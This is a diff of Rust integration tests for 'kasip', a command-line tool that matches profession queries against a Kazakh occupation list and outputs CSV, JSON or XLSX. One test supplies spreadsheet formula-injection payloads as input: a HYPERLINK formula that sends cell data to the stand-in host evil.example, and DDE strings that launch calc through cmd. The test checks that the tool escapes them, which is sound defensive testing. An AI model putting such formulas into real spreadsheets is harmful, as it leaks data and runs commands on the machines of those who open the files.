@@ -51,21 +51,125 @@ fn match_arguments_and_languages() {
     let (_, out, _) = kasip(&["match", "--lang", "kk", "нейрохирург"], b"");
     assert!(out.contains("Кәсіп тізбеде бар") && out.contains("2217-4-001"), "{out}");
     let (code, _, err) = kasip(&["match", "--lang", "de", "x"], b"");
-    assert_ne!(code, 0);
-    assert!(err.contains("ru, kk or en"), "{err}");
+    assert_eq!(code, 2, "an argument error");
+    assert!(err.contains("ru, kk, en"), "{err}");
+}
+
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes()).records().map(|r| r.unwrap().iter().map(String::from).collect()).collect()
 }
 
 #[test]
-fn match_csv_from_a_file() {
+fn match_csv_keeps_the_consultants_columns_and_skips_the_header() {
     let dir = tempfile::tempdir().unwrap();
     let f = dir.path().join("clients.csv");
-    std::fs::write(&f, "\"программист, 1С\",Иванов\nнейрохирург,Петров\n").unwrap();
+    std::fs::write(&f, "query,client\n\"программист, 1С\",Иванов\nнейрохирург,Петров\nврач,Ли\n").unwrap();
     let (code, out, _) = kasip(&["match", "--csv", "--file", f.to_str().unwrap()], b"");
     assert_eq!(code, 0);
-    let rows: Vec<&str> = out.lines().collect();
-    assert_eq!(rows[0], "query,verdict,code,name,field");
-    assert!(rows[1].starts_with("\"программист, 1С\",unsure,"));
-    assert_eq!(rows[2], "нейрохирург,listed,2217-4-001,Врач-нейрохирург,Здравоохранения");
+    let rows = csv_rows(&out);
+    assert_eq!(rows[0], ["query", "client", "verdict", "verdict_text", "code", "name", "field", "candidates"]);
+    assert_eq!(rows.len(), 4, "the header is not answered as a query: {out}");
+    assert_eq!(rows[1][..3], ["программист, 1С", "Иванов", "unsure"]);
+    assert_eq!(rows[2][..7], ["нейрохирург", "Петров", "listed", "в перечне", "2217-4-001", "Врач-нейрохирург", "Здравоохранение"]);
+    // An unsure row names no single profession: the options are in their own column.
+    assert_eq!(rows[3][..7], ["врач", "Ли", "unsure", "уточнить", "", "", ""]);
+    assert!(rows[3][7].contains("Врач-педиатр (2215-1-001)"), "{:?}", rows[3]);
+    let (_, out, _) = kasip(&["match", "--json", "--file", f.to_str().unwrap()], b"");
+    let queries: Vec<String> = out.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()["query"].as_str().unwrap().to_string()).collect();
+    assert_eq!(queries, ["программист, 1С", "нейрохирург", "врач"]);
+}
+
+#[test]
+fn match_csv_neutralises_formulas() {
+    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")\n+1+2\n-2+3+cmd|' /C calc'!A0\n@SUM(1+1)*cmd|' /C calc'!A0\n\t=1+1\n";
+    let (code, out, _) = kasip(&["match", "--csv"], evil.as_bytes());
+    assert_eq!(code, 0);
+    let rows = csv_rows(&out);
+    assert_eq!(rows.len(), 6, "{out}");
+    for cell in rows.iter().flatten() {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "live cell {cell:?}");
+    }
+    assert!(rows[1][0].starts_with("'=HYPERLINK"), "{:?}", rows[1]);
+}
+
+#[test]
+fn match_xlsx_in_and_out() {
+    let dir = tempfile::tempdir().unwrap();
+    let csv = dir.path().join("in.csv");
+    std::fs::write(&csv, "профессия;клиент\nнейрохирург;Иванов\n").unwrap();
+    let xlsx = dir.path().join("answers.xlsx");
+    let (code, _, err) = kasip(&["match", "--file", csv.to_str().unwrap(), "--out", xlsx.to_str().unwrap(), "--lang", "en"], b"");
+    assert_eq!(code, 0, "{err}");
+    assert!(std::fs::read(&xlsx).unwrap().starts_with(b"PK"), "a zip, as .xlsx files are");
+    // The answer workbook read back as a list: its header is found, the client column kept.
+    let (code, out, err) = kasip(&["match", "--csv", "--file", xlsx.to_str().unwrap()], b"");
+    assert_eq!(code, 0, "{err}");
+    let rows = csv_rows(&out);
+    assert_eq!(rows[0][..3], ["профессия", "клиент", "verdict"]);
+    assert_eq!(rows[1][..3], ["нейрохирург", "Иванов", "listed"]);
+}
+
+#[test]
+fn report_on_a_missing_database_says_so_and_creates_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("none.db");
+    let (code, out, err) = kasip(&["report", "--db", db.to_str().unwrap()], b"");
+    assert_eq!(code, 1, "{out}");
+    assert!(err.contains("no database") && err.contains(db.to_str().unwrap()), "{err}");
+    assert!(!db.exists());
+    let (code, _, err) = kasip(&["report", "--db", "/nonexistent-dir/x.db"], b"");
+    assert_eq!(code, 1);
+    assert_eq!(err.lines().count(), 1, "one sentence: {err}");
+}
+
+#[test]
+fn errors_say_each_thing_once() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("not-a-db");
+    std::fs::create_dir(&db).unwrap();
+    // A directory where the database should be: opening it fails inside SQLite.
+    let (code, _, err) = kasip(&["report", "--db", dir.path().to_str().unwrap()], b"");
+    assert_eq!(code, 1);
+    let line = err.trim();
+    let clauses: Vec<&str> = line.split(": ").collect();
+    let mut seen = std::collections::HashSet::new();
+    assert!(clauses.iter().all(|c| seen.insert(c.to_lowercase())), "a clause repeated: {line}");
+    let (code, _, err) = kasip(&["match", "--file", "/nonexistent/list.csv"], b"");
+    assert_eq!(code, 1);
+    assert_eq!(err.trim(), "kasip: cannot read /nonexistent/list.csv: no such file");
+}
+
+#[test]
+fn help_documents_every_argument() {
+    let (code, out, _) = kasip(&["match", "--help"], b"");
+    assert_eq!(code, 0);
+    for want in ["ru", "kk", "en", "one query", "one a line", "[QUERY]..."] {
+        assert!(out.contains(want), "match --help lacks {want:?}: {out}");
+    }
+    // Every argument line has a description after it.
+    for (cmd, args) in [("match", &["--json", "--csv", "--lang", "--file", "--out"][..]), ("list", &["--json", "--lang", "--field"]), ("report", &["--since", "--top", "--db"])] {
+        let (_, out, _) = kasip(&[cmd, "--help"], b"");
+        for a in args {
+            let line = out.lines().find(|l| l.trim_start().starts_with(a) || l.contains(&format!(", {a}"))).unwrap_or_else(|| panic!("{cmd} --help has no {a}"));
+            let described = line.split("  ").filter(|p| !p.trim().is_empty()).count() > 1
+                || out.lines().skip_while(|l| *l != line).nth(1).is_some_and(|n| n.starts_with("          "));
+            assert!(described, "{cmd} {a} has no help text: {line:?}");
+        }
+    }
+    let (code, _, err) = kasip(&["list", "--field", "bogus"], b"");
+    assert_eq!(code, 2, "an argument error exits 2 like clap's own");
+    assert!(err.contains("healthcare"), "{err}");
+}
+
+#[test]
+fn the_cli_cuts_no_names_or_codes_and_fields_read_in_the_nominative() {
+    let (_, out, _) = kasip(&["match", "--lang", "en", "инженер"], b"");
+    assert!(!out.contains('…'), "{out}");
+    assert!(out.contains("[2145-9-006 · Research engineer in organic substances technology]"), "{out}");
+    let (_, out, _) = kasip(&["match", "нейрохирург"], b"");
+    assert!(out.contains("Область образования: Здравоохранение") && !out.contains("Здравоохранения"), "{out}");
+    let (_, out, _) = kasip(&["list"], b"");
+    assert!(out.contains("Креативные индустрии") && !out.contains("В отрасли креативных индустрий"), "{out}");
 }
 
 #[test]
@@ -80,7 +184,7 @@ fn list_json_has_all_51_grouped_by_field() {
     let (_, out, _) = kasip(&["list", "--field", "creative", "--lang", "en"], b"");
     assert!(out.contains("Creative industries") && out.contains("Video editor") && !out.contains("Neurosurgeon"));
     let (code, _, err) = kasip(&["list", "--field", "nope"], b"");
-    assert_ne!(code, 0);
+    assert_eq!(code, 2);
     assert!(err.contains("healthcare"), "{err}");
 }
 
